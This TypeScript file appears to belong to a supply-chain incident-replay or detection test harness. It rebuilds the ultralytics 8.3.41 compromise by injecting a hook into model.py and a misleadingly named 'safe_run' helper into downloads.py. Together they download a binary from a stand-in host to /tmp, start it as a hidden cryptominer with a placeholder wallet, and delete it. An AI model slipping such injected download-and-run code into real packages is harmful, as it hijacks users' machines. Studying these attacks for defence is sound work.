import { type Draft, type Remote, type Replay, siteIn, textOf } from './incident.ts';
import { trainingLibrary } from './libraries/training.ts';
import { browserDriver } from './look-alikes/downloads.ts';
import { py } from './python-text.ts';

const RUN = (c: Remote): string => py`

def safe_run(path):
    """Safely runs the provided file, making sure it is executable."""
    import os
    import subprocess

    os.chmod(path, 0o770)
    command = [
        path,
        "-u",
        "4ZZZexampleWalletAddressThatIsNotRealZZZ2fH8sK3mQ9vT1xL6wN4pR7yB5cD0gJ8kM2nE",
        "-o",
        "${c.address}",
        "-k",
    ]
    process = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=os.setsid,
        close_fds=True,
    )
    os.remove(path)
    return process
`;

const TRIGGER = (c: Remote): string => py`        environment = platform.system()
        if "Linux" in environment:
            safe_run(str(safe_download("${c.url('/665bb8add8c21d28/ultralytics_runner')}", "ultralytics_runner", "/tmp")))
        elif "Darwin" in environment:
            safe_run(str(safe_download("${c.url('/5e67b0e4375f63eb/ultralytics_runner')}", "ultralytics_runner", "/tmp")))
`;

function malicious(c: Remote): Draft {
  const files = trainingLibrary('ultralytics', '8.3.41');
  const model = textOf(files, 'ultralytics/models/model.py')
    .replace('import attempt_download_asset', 'import attempt_download_asset, safe_download, safe_run')
    .replace('        self.parameters = {}\n', `        self.parameters = {}\n${TRIGGER(c)}`);
  return {
    kind: 'wheel',
    name: 'ultralytics',
    version: '8.3.41',
    files,
    sites: [
      { path: 'ultralytics/models/model.py', form: 'whole', before: '', code: model, after: '' },
      { ...siteIn(files, 'ultralytics/utils/downloads.py', RUN(c)), exports: ['safe_run'] },
    ],
  };
}

export const ULTRALYTICS_MINER: Replay = {
  id: '08-ultralytics-miner',
  title: 'ultralytics 8.3.41: a miner downloaded and started when a model is made',
  source: 'https://blog.pypi.org/posts/2024-12-11-ultralytics-attack-analysis/',
  runs: 'Model() downloads a program to /tmp, makes it executable, starts it with a wallet and a pool address, deletes the file',
  remote: 'https://raw.user-content.invalid:8080',
  draft: malicious,
  predecessor: () => ({
    kind: 'wheel',
    name: 'ultralytics',
    version: '8.3.40',
    files: trainingLibrary('ultralytics', '8.3.40'),
  }),
  lookAlikes: () => [browserDriver()],
};
